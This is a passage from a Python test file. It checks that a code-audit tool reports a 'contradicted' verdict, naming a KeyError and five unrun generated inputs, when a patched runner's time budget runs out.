        run = real(source, function, calls, **limits)
        if len(calls) >= 20:   # the edge cases and the generated inputs: the last five are left unrun
            run.results[-5:] = [CallResult("not run", detail="the listing's time limit ran out")] * 5
            run.budget_exhausted = True
        return run

    monkeypatch.setattr(code_check, "run_listing", cut)
    source = listing("""
        if k % 2:
            raise KeyError("odd cutoff")
        """)
    result = audit_listing(tmp_path, source)
    assert result.verdict == "contradicted", result.reason
    assert "KeyError" in result.reason and "5 of 20 generated inputs were not run" in result.reason
